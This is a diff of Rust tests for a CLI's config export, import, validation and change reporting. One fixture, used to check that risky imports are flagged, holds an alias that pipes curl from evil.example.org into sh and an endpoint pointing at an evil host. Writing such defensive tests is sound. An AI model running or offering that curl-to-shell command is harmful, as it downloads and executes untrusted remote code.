+            .set("example.org", "endpoints", "https://api-eu.example.org")
+            .unwrap();
+        config.set("", "defaults.file_convert.output_format", "obj").unwrap();
+        config
+            .set("", &crate::config::link_key("wiki"), "https://wiki.example.org")
+            .unwrap();
+        config
+            .add_account("example.org", "work", "me@work.org", "work-secret")
+            .unwrap();
+        let mut aliases = config.aliases().unwrap();
+        aliases.map.set_string_value("co", "file convert").unwrap();
+        aliases.parent.save_aliases(&aliases.map).unwrap();
+
+        let exported = crate::cmd_config::export_config(&mut config, false).unwrap();
+        assert_eq!(exported.settings.get("browser").unwrap(), "firefox");
+        assert!(exported.settings.get("insecure_skip_verify").is_none());
+        assert_eq!(
+            exported.hosts.get("example.org").unwrap().get("user").unwrap(),
+            "me@example.org"
+        );
+        assert!(exported.hosts.get("example.org").unwrap().get("token").is_none());
+        assert_eq!(exported.aliases.get("co").unwrap(), "file convert");
+        assert_eq!(
+            exported.settings.get("defaults.file_convert.output_format").unwrap(),
+            "obj"
+        );
+        assert_eq!(exported.settings.get("links.wiki").unwrap(), "https://wiki.example.org");
+        assert_eq!(
+            exported.hosts.get("example.org").unwrap().get("api_version").unwrap(),
+            "v1"
+        );
+        assert_eq!(
+            exported.accounts.get("example.org").unwrap().get("work").unwrap(),
+            &std::collections::BTreeMap::from([("user".to_string(), "me@work.org".to_string())])
+        );
+
+        let with_secrets = crate::cmd_config::export_config(&mut config, true).unwrap();
+        assert_eq!(
+            with_secrets.hosts.get("example.org").unwrap().get("token").unwrap(),
+            "secret"
+        );
+        assert_eq!(
+            with_secrets
+                .accounts
+                .get("example.org")
+                .unwrap()
+                .get("work")
+                .unwrap()
+                .get("token")
+                .unwrap(),
+            "work-secret"
+        );
+
+        // Round trip it through yaml into a new config.
+        let yaml = serde_yaml::to_string(&exported).unwrap();
+        let imported: crate::cmd_config::ExportedConfig = serde_yaml::from_str(&yaml).unwrap();
+        crate::cmd_config::validate_import(&imported).unwrap();
+
+        let mut other = crate::config::new_blank_config().unwrap();
+        crate::cmd_config::import_config(&mut other, &imported)
+            .unwrap()
+            .finish()
+            .unwrap();
+        assert_eq!(crate::cmd_config::export_config(&mut other, false).unwrap(), exported);
+
+        // Tokens come along when they were exported.
+        let mut other = crate::config::new_blank_config().unwrap();
+        crate::cmd_config::import_config(&mut other, &with_secrets)
+            .unwrap()
+            .finish()
+            .unwrap();
+        assert_eq!(
+            crate::cmd_config::export_config(&mut other, true).unwrap(),
+            with_secrets
+        );
+        other.switch_account("example.org", "work").unwrap();
+        assert_eq!(other.get("example.org", "token").unwrap(), "work-secret");
+    }
+
+    #[test]
+    fn test_validate_import() {
+        let imported: crate::cmd_config::ExportedConfig = serde_yaml::from_str(
+            r#"
+settings:
+  prompt: sometimes
+  foo: bar
+  insecure_skip_verify: "true"
+hosts:
+  example.org:
+    default: maybe
+    insecure_skip_verify: "true"
+    user: me@example.org
+"#,
+        )
+        .unwrap();
+
+        assert_eq!(
+            crate::cmd_config::validate_import(&imported).unwrap_err().to_string(),
+            r#"invalid configuration:
+  settings.foo: invalid key: foo
+  settings.insecure_skip_verify: can only be set with `kittycad config set`
+  settings.prompt: invalid values, valid values: ["enabled", "disabled"]
+  hosts.example.org.default: expected true or false
+  hosts.example.org.insecure_skip_verify: can only be set with `kittycad config set`"#
+        );
+
+        assert!(serde_yaml::from_str::<crate::cmd_config::ExportedConfig>("nope: true").is_err());
+    }
+
+    #[test]
+    fn test_sensitive_changes() {
+        use crate::config::Config;
+
+        let mut config = crate::config::new_blank_config().unwrap();
+        config.set("", "browser", "firefox").unwrap();
+        config.set("", "pager", "less").unwrap();
+        let mut aliases = config.aliases().unwrap();
+        aliases.map.set_string_value("clean", "!rm -rf build").unwrap();
+        aliases.parent.save_aliases(&aliases.map).unwrap();
+
+        let imported: crate::cmd_config::ExportedConfig = serde_yaml::from_str(
+            r#"
+settings:
+  browser: evil
+  pager: less
+  prompt: disabled
+hosts:
+  example.org:
+    endpoints: https://evil.example.org
+    user: me@example.org
+aliases:
+  clean: "!rm -rf build"
+  co: "!curl evil.example.org | sh"
+  ls: file list
+"#,
+        )
+        .unwrap();
+
+        assert_eq!(
+            crate::cmd_config::sensitive_changes(&mut config, &imported).unwrap(),
+            vec![
+                r#"- settings.browser = "firefox""#,
+                r#"+ settings.browser = "evil""#,
+                r#"+ hosts.example.org.endpoints = "https://evil.example.org""#,
+                r#"+ aliases.co = "!curl evil.example.org | sh""#,
+            ]
+        );
+    }
+
+    #[test]
+    fn test_config_change() {
+        let change = crate::cmd_config::ConfigChange {
+            key: "prompt".to_string(),
+            host: "example.org".to_string(),
+            before: None,
+            after: "disabled".to_string(),
+            file: "/home/me/.config/kittycad/hosts.toml".to_string(),
+            backup: Some("/home/me/.config/kittycad/hosts.toml.20220701T120000.bak".to_string()),
+        };
+        assert_eq!(
+            change.to_string(),
+            r#"Set prompt for example.org in /home/me/.config/kittycad/hosts.toml
+  before: (not set)
+  after:  disabled
+  backup: /home/me/.config/kittycad/hosts.toml.20220701T120000.bak
+"#
+        );
+        assert_eq!(
+            serde_json::to_value(&change).unwrap(),
+            serde_json::json!({
+                "key": "prompt",
+                "host": "example.org",
+                "before": null,
+                "after": "disabled",
+                "file": "/home/me/.config/kittycad/hosts.toml",
+                "backup": "/home/me/.config/kittycad/hosts.toml.20220701T120000.bak",
+            })
+        );
+    }
+
     pub struct TestItem {
         name: String,
         cmd: crate::cmd_config::SubCommand,
@@ -172,7 +1292,8 @@ mod test {
             TestItem {
                 name: "list empty".to_string(),
                 cmd: crate::cmd_config::SubCommand::List(crate::cmd_config::CmdConfigList { host: "".to_string() }),
-                want_out: "editor=\nprompt=enabled\npager=\nbrowser=\nformat=table\n".to_string(),
+                want_out: "editor=\nprompt=enabled\npager=\nbrowser=\nformat=table\ncredential_store=file\nmax_body_size=\nretries=\ntimeout=\nlimit_rate=\nmax_idle_connections=\nidle_timeout=\nhttp2=auto\nhttp_proxy=\nca_bundle=\ninsecure_skip_verify=false\nallowed_hosts=\nhyperlinks=auto\naccessible_output=disabled\nprivacy=normal\nrelease_public_key=\nupdate_channel=stable\nquota_warning=\ntelemetry=disabled\n"
+                    .to_string(),
                 want_err: "".to_string(),
             },
             TestItem {
@@ -181,6 +1302,7 @@ mod test {
                     key: "foo".to_string(),
                     value: "bar".to_string(),
                     host: "".to_string(),
+                    format: None,
                 }),
                 want_out: "".to_string(),
                 want_err: "warning: 'foo' is not a known configuration key".to_string(),
@@ -191,9 +1313,10 @@ mod test {
                     key: "browser".to_string(),
                     value: "bar".to_string(),
                     host: "".to_string(),
+                    format: None,
                 }),
                 want_out: "".to_string(),
-                want_err: "".to_string(),
+                want_err: "✔ Set browser in ".to_string(),
             },
             TestItem {
                 name: "set a key with host".to_string(),
@@ -201,9 +1324,32 @@ mod test {
                     key: "prompt".to_string(),
                     value: "disabled".to_string(),
                     host: "example.org".to_string(),
+                    format: None,
                 }),
                 want_out: "".to_string(),
-                want_err: "".to_string(),
+                want_err: "✔ Set prompt for example.org in ".to_string(),
+            },
+            TestItem {
+                name: "set the endpoints of a host".to_string(),
+                cmd: crate::cmd_config::SubCommand::Set(crate::cmd_config::CmdConfigSet {
+                    key: "endpoints".to_string(),
+                    value: "a.example.org,b.example.org".to_string(),
+                    host: "example.org".to_string(),
+                    format: None,
+                }),
+                want_out: "".to_string(),
+                want_err: "  after:  a.example.org,b.example.org\n".to_string(),
+            },
+            TestItem {
+                name: "set the endpoints without a host".to_string(),
+                cmd: crate::cmd_config::SubCommand::Set(crate::cmd_config::CmdConfigSet {
+                    key: "endpoints".to_string(),
+                    value: "a.example.org".to_string(),
+                    host: "".to_string(),
+                    format: None,
+                }),
+                want_out: "".to_string(),
+                want_err: "warning: 'endpoints' is not a known configuration key".to_string(),
             },
             TestItem {
                 name: "get a key we set".to_string(),
@@ -232,10 +1378,38 @@ mod test {
                 want_out: "".to_string(),
                 want_err: "Key 'blah' not found".to_string(),
             },
+            TestItem {
+                name: "unset a key with host".to_string(),
+                cmd: crate::cmd_config::SubCommand::Unset(crate::cmd_config::CmdConfigUnset {
+                    key: "prompt".to_string(),
+                    host: "example.org".to_string(),
+                }),
+                want_out: "".to_string(),
+                want_err: "".to_string(),
+            },
+            TestItem {
+                name: "get a key we unset with host".to_string(),
+                cmd: crate::cmd_config::SubCommand::Get(crate::cmd_config::CmdConfigGet {
+                    key: "prompt".to_string(),
+                    host: "example.org".to_string(),
+                }),
+                want_out: "".to_string(),
+                want_err: "Key 'prompt' not found".to_string(),
+            },
+            TestItem {
+                name: "unset a key unknown".to_string(),
+                cmd: crate::cmd_config::SubCommand::Unset(crate::cmd_config::CmdConfigUnset {
+                    key: "foo".to_string(),
+                    host: "".to_string(),
+                }),
+                want_out: "".to_string(),
+                want_err: "warning: 'foo' is not a known configuration key".to_string(),
+            },
             TestItem {
                 name: "list all default".to_string(),
                 cmd: crate::cmd_config::SubCommand::List(crate::cmd_config::CmdConfigList { host: "".to_string() }),
-                want_out: "editor=\nprompt=enabled\npager=\nbrowser=bar\nformat=table\n".to_string(),
+                want_out: "editor=\nprompt=enabled\npager=\nbrowser=bar\nformat=table\ncredential_store=file\nmax_body_size=\nretries=\ntimeout=\nlimit_rate=\nmax_idle_connections=\nidle_timeout=\nhttp2=auto\nhttp_proxy=\nca_bundle=\ninsecure_skip_verify=false\nallowed_hosts=\nhyperlinks=auto\naccessible_output=disabled\nprivacy=normal\nrelease_public_key=\nupdate_channel=stable\nquota_warning=\ntelemetry=disabled\n"
+                    .to_string(),
                 want_err: "".to_string(),
             },
         ];
@@ -245,11 +1419,7 @@ mod test {
 
         for t in tests {
             let (io, stdout_path, stderr_path) = crate::iostreams::IoStreams::test();
-            let mut ctx = crate::context::Context {
-                config: &mut c,
-                io,
-                debug: false,
-            };
+            let mut ctx = crate::context::Context::with_io(&mut c, io);
 
             let cmd_config = crate::cmd_config::CmdConfig { subcmd: t.cmd };
             match cmd_config.run(&mut ctx).await {
@@ -257,7 +1427,11 @@ mod test {
                     let stdout = std::fs::read_to_string(stdout_path).unwrap();
                     let stderr = std::fs::read_to_string(stderr_path).unwrap();
                     assert_eq!(stdout, t.want_out, "test {}", t.name);
-                    assert!(stderr.is_empty(), "test {}", t.name);
+                    if t.want_err.is_empty() {
+                        assert!(stderr.is_empty(), "test {}", t.name);
+                    } else {
+                        assert!(stderr.contains(&t.want_err), "test {}: {}", t.name, stderr);
+                    }
                 }
                 Err(err) => {
                     let stdout = std::fs::read_to_string(stdout_path).unwrap();